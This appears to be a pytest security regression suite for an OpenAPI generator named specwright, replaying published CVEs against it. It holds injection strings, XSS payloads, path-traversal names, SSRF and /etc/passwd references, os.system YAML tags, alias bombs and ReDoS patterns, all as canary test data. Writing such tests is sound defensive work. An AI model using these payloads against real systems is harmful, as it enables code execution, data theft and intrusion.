"""What was reported of other generators, documentation sites and loaders, tried on this one.

Each docstring names the report, and says the attack in our words.
"""

from __future__ import annotations

import builtins
import importlib
import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from specwright.errors import InputError
from specwright.installation import templates_root
from specwright.loading import parse
from specwright.planning import plan
from specwright.resolving import Workspace
from tests.conftest import write_tree
from tests.hostile import running
from tests.hostile.pages import Page, markdown_tokens
from tests.hostile.payloads import CANARY

PYTHON = f"setattr(__import__('builtins'),'{CANARY}',1)"
SCRIPT = "globalThis.canary=1"


def spec(
    thing: Any = True, *, operation: Any = None, path: str = "/things", **document: Any
) -> dict[str, Any]:
    """A small spec with the schema *thing* for its body, and whatever else is given."""
    content = {"application/json": {"schema": {"$ref": "#/components/schemas/Thing"}}}
    described = {
        "operationId": "CreateThing",
        "requestBody": {"required": True, "content": content},
        "responses": {"200": {"description": "Done", "content": content}},
        **(operation or {}),
    }
    whole: dict[str, Any] = {
        "openapi": "3.1.0",
        "info": {"title": "Demo", "version": "1"},
        "servers": [{"url": "https://api.example.com"}],
        "paths": {path: {"post": described}},
        "components": {"schemas": {"Thing": thing}},
    }
    return {**whole, **document}


def members(**named: Any) -> dict[str, Any]:
    return {"type": "object", "properties": named}


def generate(folder: Path, document: Any) -> dict[str, bytes]:
    """The rendered files of *document*, which has to be taken."""
    path = folder / "demo.json"
    path.write_bytes(running.as_json(document))
    made = running.generated(path)
    assert not isinstance(made, InputError), str(made)
    return made


def refusal(folder: Path, document: Any) -> str:
    """Why *document* is refused."""
    path = folder / "demo.json"
    path.write_bytes(running.as_json(document))
    made = running.generated(path)
    assert isinstance(made, InputError)
    return str(made)


def import_everything(folder: Path, document: Any, name: str) -> Any:
    """Import every module of the package *name* made from *document*; its service's module."""
    path = folder / "demo.json"
    path.write_bytes(running.as_json(document))
    package = running.package_of(path, name)
    assert not isinstance(package, InputError), str(package)
    files = running.rendered(package, lambda path: path.startswith("src/"))
    for unit in plan(package, [templates_root()]):
        if unit.verbatim and unit.path.startswith("src/") and unit.path.endswith(".py"):
            files[unit.path] = (templates_root() / unit.template).read_bytes()
    write_tree(folder / "out", files)
    sys.path.insert(0, str(folder / "out" / "src"))
    for module in sorted(files):
        if not module.endswith(("__main__.py", "pytest_plugin.py", "fake.py")):
            dotted = module.removeprefix("src/").removesuffix(".py").replace("/", ".")
            importlib.import_module(dotted.removesuffix(".__init__"))
    assert not hasattr(builtins, CANARY)
    return importlib.import_module(f"{name}.demo.models")


def pages(files: dict[str, bytes]) -> list[Page]:
    return [Page(text.decode("utf-8")) for path, text in files.items() if path.endswith(".html")]


# ------------------------------------------------------------------ generators


@pytest.mark.parametrize(
    "name", ["../../escape", "..\\..\\escape", "/tmp/escape", "a/../../b", "%2e%2e%2fx"]
)
def test_names_stay_in_their_folder(tmp_path: Path, name: str) -> None:
    """CVE-2020-15141 (openapi-python-client): a name in the document chose where generated files were put."""
    document = spec(members(a={"type": "string"}), operation={"operationId": name, "tags": [name]})
    for path in generate(tmp_path, document):
        assert ".." not in path
        assert not path.startswith("/")
        assert "\\" not in path


def test_texts_of_all_kinds_stay_texts(tmp_path: Path) -> None:
    """CVE-2020-15142 (openapi-python-client): descriptions, defaults and enum values became Python code."""
    attack = f'""" + {PYTHON} + """'
    thing = members(
        a={"type": "string", "description": attack, "default": attack, "enum": [attack, "\\"]},
    )
    models = import_everything(tmp_path, spec(thing), "advisory_texts")
    assert attack in models.ThingA.__args__


@pytest.mark.parametrize(
    "attack", [f"');{PYTHON};('", f"\n{PYTHON}\n", f'";{PYTHON};"', f"*/ {PYTHON} /*"]
)
def test_parameters_injected_into_code(tmp_path: Path, attack: str) -> None:
    """CVE-2016-5641 (swagger-codegen): paths, descriptions and titles ended the code's strings and comments."""
    document = spec(
        members(a={"type": "string", "description": attack}),
        path=f"/things{attack}",
        operation={"summary": attack, "description": attack},
        info={"title": attack, "version": attack, "description": attack},
    )
    import_everything(tmp_path, document, f"advisory_parameters{abs(hash(attack))}")


@pytest.mark.parametrize("attack", [f"'+{PYTHON}+'", f"\\'+{PYTHON}#", f'"+{PYTHON}+"'])
def test_values_that_reach_string_literals(tmp_path: Path, attack: str) -> None:
    """openapi-typescript-codegen #2809: paths, names, media types, server URLs and versions ended literals."""
    content = {f"application/json; x={attack}": {"schema": members(a={"type": "string"})}}
    document = spec(
        path=f"/{attack}",
        operation={
            "parameters": [{"name": attack, "in": "query", "schema": {"type": "string"}}],
            "requestBody": {"content": content},
        },
        # What follows a number sign is refused in an address; see tests/specs for that.
        servers=[{"url": f"https://{attack.replace('#', '')}"}],
        info={"title": "Demo", "version": attack},
    )
    import_everything(tmp_path, document, f"advisory_literals{abs(hash(attack))}")


def test_meanings_of_values_in_comments(tmp_path: Path) -> None:
    """CVE-2026-23947 and CVE-2026-25141 (Orval): texts of enum extensions ended the comments that they were put in."""
    attack = f'*/ {PYTHON} /* """ \n{PYTHON}'
    meaning = {"description": attack, "x-zh": attack}
    thing = members(a={"type": "string", "enum": ["x"], "x-enum-descriptions": {"x": meaning}})
    import_everything(tmp_path, spec(thing), "advisory_meanings")
    files = generate(tmp_path, spec(thing))
    assert all(page.scripts == [] for page in pages(files))


def test_defaults_in_every_place(tmp_path: Path) -> None:
    """CVE-2026-72716, -72717, -71868, -71869, -71871 (Orval): defaults of properties, items, enums, queries and headers
    were code when the generated module was imported."""
    attack = f"v${{{PYTHON}}}`{{{PYTHON}}}"
    text = {"type": "string", "default": attack}
    places = [{"name": "X-A", "in": "header"}, {"name": "b", "in": "query"}]
    thing = members(
        a=text, c={"type": "array", "items": text}, d={"enum": [attack, "e"], "default": attack}
    )
    document = spec(
        thing, operation={"parameters": [{**place, "schema": text} for place in places]}
    )
    import_everything(tmp_path, document, "advisory_defaults")
    found = json.loads(generate(tmp_path, document)["openapi/demo/demo.json"])
    assert found["components"]["schemas"]["Thing"] == thing


def test_names_that_are_keys(tmp_path: Path) -> None:
    """CVE-2026-71864 to CVE-2026-71867 (Orval): names of properties and parameters became keys that were computed."""
    attack = f"[{PYTHON}]"
    parameters = [{"name": attack, "in": "query", "schema": {"type": "string"}}]
    document = spec(
        members(**{f"{attack}'": {"type": "string"}}), operation={"parameters": parameters}
    )
    import_everything(tmp_path, document, "advisory_keys")
    header = {"name": f"X: y\r\n{attack}", "in": "header", "schema": {"type": "string"}}
    refused = refusal(tmp_path, spec(operation={"parameters": [header]}))
    assert "cannot be the name of a header" in refused


def test_requests_are_addressed_by_text(tmp_path: Path) -> None:
    """GHSA-fg9p-mrxr-hvq7 and GHSA-88f2-fpv8-89q2 (Orval): path and server URL became the template of an expression."""
    attack = f"{{x}}${{{PYTHON}}}{{{{{PYTHON}}}}}"
    document = spec(
        members(a={"type": "string"}),
        path=f"/{attack}",
        operation={"parameters": []},
        servers=[{"url": f"https://api.example.com/%{{{PYTHON}}}"}],
    )
    import_everything(tmp_path, document, "advisory_addresses")


def test_handlers_of_tools(tmp_path: Path) -> None:
    """CVE-2026-22785 (Orval): the summary of an operation left the string that it was put into."""
    attack = f"x', () => {{}}); {PYTHON}; //"
    import_everything(
        tmp_path, spec(members(a={}), operation={"summary": attack}), "advisory_handlers"
    )


def test_extensions_choose_no_imports(tmp_path: Path) -> None:
    """CVE-2026-63720 (datamodel-code-generator): an extension that names a base class was printed into an import."""
    attack = f"os\n{PYTHON}\nfrom os.path"
    for keyword in ("customBasePath", "customTypePath"):
        thing = {**members(a={}), keyword: attack}
        import_everything(tmp_path, spec(thing), f"advisory_{keyword.lower()}")
    thing = {**members(a={"type": "string", "x-python-type": attack}), "x-customBasePath": attack}
    import_everything(tmp_path, spec(thing), "advisory_imports")


def test_literals_of_python(tmp_path: Path) -> None:
    """GHSA-7f3j-j7jj-r3vr (Kiota): a value left the Python literal that it was printed as."""
    attack = f'\\"\n{PYTHON}\n\\N{{BULLET}}\\x41\\'
    thing = members(a={"const": attack}, b={"type": "string", "enum": [attack, "'"]})
    models = import_everything(tmp_path, spec(thing), "advisory_python")
    assert models.ThingA.__args__ == (attack,)
    assert models.ThingB.__args__ == (attack, "'")


def test_names_of_prototypes(tmp_path: Path) -> None:
    """CVE-2026-48819 (hey-api): a member called `__proto__` exchanged the prototype of what held it."""
    names = ["__proto__", "constructor", "toString", "hasOwnProperty"]
    thing = {
        **members(**{name: {"type": "string"} for name in names}),
        "additionalProperties": False,
    }
    files = generate(tmp_path, spec(thing))
    (tables,) = Page(files["docs/en/demo/CreateThing.html"].decode("utf-8")).data
    assert all(f'"{name}"' in tables for name in names)
    assert '"__proto__":' not in tables
    assert json.loads(files["openapi/demo/demo.json"])["components"]["schemas"]["Thing"] == thing


@pytest.mark.parametrize(
    "attack", ["</script>", "</ScRiPt >", "<!--<script>", "]]>&lt;", "\u2028\x85"]
)
def test_patterns_and_values_in_the_data_of_a_page(tmp_path: Path, attack: str) -> None:
    """CVE-2019-16769 (serialize-javascript): `</script>` in a regular expression ended the script that held it."""
    value = f"{attack}<script>{SCRIPT}</script>"
    thing = members(
        **{value: {"type": "string", "enum": [value, "x"], "pattern": "</script>|<!--"}}
    )
    found = [page for page in pages(generate(tmp_path, spec(thing))) if page.data]
    assert len(found) == 2
    for page in found:
        assert not page.scripts
        (tables,) = page.data
        assert not set("<>&\u2028\x85") & set(tables)
        (unit,) = json.loads(tables)["units"].values()
        checks = [["type", "string"], ["enum", value, "x"], ["pattern", "</script>|<!--", None]]
        assert [value, checks] in unit[1][1][1]


# ------------------------------------------------------------------ references


@pytest.mark.parametrize(
    "reference",
    [
        "http://169.254.169.254/latest/meta-data",
        "https://example.com/a.yaml#/X",
        "file:///etc/passwd",
        "//example.com/a.yaml",
        "ftp://example.com/a",
        "HTTP://example.com/a",
        "/etc/passwd",
        "../secret.yaml",
        "..%2fsecret.yaml",
        "%2e%2e/secret.yaml",
        "a/../../secret.yaml",
        "linked.yaml",
        "linked/secret.yaml",
        "loop.yaml",
        "secret\0.yaml",
        "x" * 5000,
        "",
    ],
)
@pytest.mark.parametrize("where", ["schema", "mapping"])
def test_references_lead_nowhere_else(
    tmp_path: Path, reference: str, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CVE-2026-39885 (mcp-from-openapi), GHSA-cxq5-97v7-87j8 (Orval): references fetched addresses and read files."""

    def refuse(*arguments: object, **named: object) -> None:
        raise AssertionError("a connection was made")

    monkeypatch.setattr("socket.socket.connect", refuse)
    monkeypatch.setattr("socket.getaddrinfo", refuse)
    secret = tmp_path / "secret.yaml"
    secret.write_text("openapi: 3.1.0\ninfo: {title: canary, version: '1'}\npaths: {}\n")
    folder = tmp_path / "specs"
    folder.mkdir()
    (folder / "linked.yaml").symlink_to(secret)
    (folder / "linked").symlink_to(tmp_path)
    (folder / "loop.yaml").symlink_to(folder / "loop.yaml")
    thing: Any = {"$ref": reference}
    if where == "mapping":
        mapping = {"a": reference or "#"}
        thing = {"oneOf": [{}], "discriminator": {"propertyName": "a", "mapping": mapping}}
    told = refusal(folder, spec(members(a=thing)))
    assert "canary" not in told
    assert "root:" not in told


def test_references_lead_to_what_belongs_there(tmp_path: Path) -> None:
    """OAI/OpenAPI-Specification #2084: nothing kept a reference for parameters from leading to a response."""
    for reference in (
        "#",
        "#/info",
        "#/info/title",
        "#/paths",
        "#/components/schemas",
        "#/x-any/Thing",
    ):
        document = {**spec(members(a={"$ref": reference})), "x-any": {"Thing": {"type": "no such"}}}
        assert "leads to no schema" in refusal(tmp_path, document)
    wrong = spec(operation={"parameters": [{"$ref": "#/components/schemas/Thing"}]})
    assert "leads to no parameter" in refusal(tmp_path, wrong)


# ------------------------------------------------------------------ loaders


@pytest.mark.parametrize(
    "text",
    [
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
        "!!python/object/apply:os.system [touch canary]",
        "!!python/object/new:type {args: [x, !!python/tuple [], {}], state: {}}",
        "a: !!python/name:os.system",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]",
        "a: !!binary aGk=",
        "a: !!set {x}",
        "--- !!timestamp 2020-01-01",
    ],
)
def test_tags_build_no_objects(text: str) -> None:
    """CVE-2017-1000207 and CVE-2017-1000208 (Swagger), CVE-2017-18342 and CVE-2020-1747 (PyYAML): a tag of YAML built
    an object, and so ran code while the document was read."""
    with pytest.raises(InputError, match="is not allowed"):
        parse("a.yaml", text)


def test_aliases_do_not_multiply() -> None:
    """CVE-2017-18640 (SnakeYAML): aliases of aliases made a small text a large document; here also a deep one."""
    lines = ["a0: &a0 [" + "x, " * 20 + "x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 20)}]" for i in range(1, 12)]
    with pytest.raises(InputError, match="expands to more than"):
        parse("a.yaml", "\n".join(lines))
    deep = ["a0: &a0 [x]"] + [f"a{i}: &a{i} {'[' * 50}*a{i - 1}{']' * 50}" for i in range(1, 50)]
    with pytest.raises(InputError, match="levels deep"):
        parse("a.yaml", "\n".join(deep))


def test_merge_keys_merge_nothing() -> None:
    """CVE-2025-64718 (js-yaml): a merge key brought `__proto__` into an object."""
    with pytest.raises(InputError, match="merge keys"):
        parse("a.yaml", "a: &a {__proto__: {x: 1}}\nb: {<<: *a}")
    assert parse("a.yaml", "a: {__proto__: {x: 1}}") == {"a": {"__proto__": {"x": 1}}}


@pytest.mark.parametrize(
    "pattern",
    ["^(a+)+$", "^(a|aa)+$", "^(a|a?)+$", r"^(\w+\s?)*$", "^(([a-z])+.)+[A-Z]$"],
)
def test_patterns_take_no_exponential_time(tmp_path: Path, pattern: str) -> None:
    """SNYK-JS-SCHEMAINSPECTOR-1088010 (schema-inspector): a short text kept a regular expression busy for ever."""
    path = tmp_path / "demo.json"
    path.write_bytes(running.as_json(spec(members(a={"type": "string", "pattern": pattern}))))
    begun = time.process_time()
    made = running.generated(path, lambda path: "_validators" in path)
    assert isinstance(made, InputError)
    assert "/properties/a/pattern" in str(made)
    assert time.process_time() - begun < 30


# ------------------------------------------------------------------ pages


@pytest.mark.parametrize(
    "attack",
    [
        f"<script>{SCRIPT}</script>",
        f'<img src=x onerror="{SCRIPT}">',
        f"<form action=javascript:{SCRIPT}><style>@import 'https://canary.example'</style></form>",
        f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={SCRIPT}>",
        f"[x](javascript:{SCRIPT}) ![x](data:text/html,x) <javascript:{SCRIPT}>",
        f"[x](  java\tscript:{SCRIPT})",
        f'[x](https://canary.example/"onmouseover="{SCRIPT})',
    ],
)
def test_descriptions_are_shown_and_not_interpreted(tmp_path: Path, attack: str) -> None:
    """swagger-ui #1864 and #3163, SNYK-JS-SWAGGERUI-2314885: descriptions were HTML, or Markdown that became it."""
    document = spec(
        members(a={"type": "string", "description": attack, "title": attack, "x-zh": attack}),
        operation={"summary": attack, "description": attack, "x-zh": {"summary": attack}},
        info={"title": attack, "version": attack, "description": attack, "summary": attack},
    )
    files = generate(tmp_path, document)
    for page in pages(files):
        assert not page.tags & {"img", "style", "form", "math", "table", "iframe", "base", "object"}
        assert not page.scripts
        assert not [name for _, name in page.attributes if name.startswith("on")]
        assert not [a for a in page.addresses if ":" in a.partition("#")[0] and a[:6] != "https:"]
    for path, content in files.items():
        if path.endswith((".md", "llms.txt")):
            for token in markdown_tokens(content.decode("utf-8")):
                assert token.type not in ("html_block", "image"), path
                assert not str(token.attrs.get("href", "")).startswith(("javascript", "data")), path


@pytest.mark.parametrize(
    "address",
    [
        f"javascript:{SCRIPT}",
        f"JavaScript:{SCRIPT}",
        "data:text/html,x",
        " javascript:x",
        '//x"onclick="y',
    ],
)
def test_addresses_have_a_harmless_scheme(tmp_path: Path, address: str) -> None:
    """swagger-ui #3847: the terms of service, or a contact's address, were `javascript:` links."""
    document = spec(
        members(a={"type": "string", "externalDocs": {"url": address}}),
        operation={"externalDocs": {"url": address}},
        externalDocs={"url": address},
        info={
            "title": "Demo",
            "version": "1",
            "termsOfService": address,
            "contact": {"name": "x", "url": address},
            "license": {"name": "x", "url": address},
        },
    )
    path = tmp_path / "demo.json"
    path.write_bytes(running.as_json(document))
    made = running.generated(path)
    for page in pages(made) if not isinstance(made, InputError) else ():
        assert not [a for a in page.addresses if ":" in a.partition("#")[0] and a[:6] != "https:"]


def test_a_workspace_stays_in_its_root(tmp_path: Path) -> None:
    """CVE-2026-39885 (mcp-from-openapi), the library's side: what is told of a path outside is its name at most."""
    workspace = Workspace(tmp_path, tmp_path)
    with pytest.raises(InputError, match="cannot be read"):
        workspace.open(tmp_path)
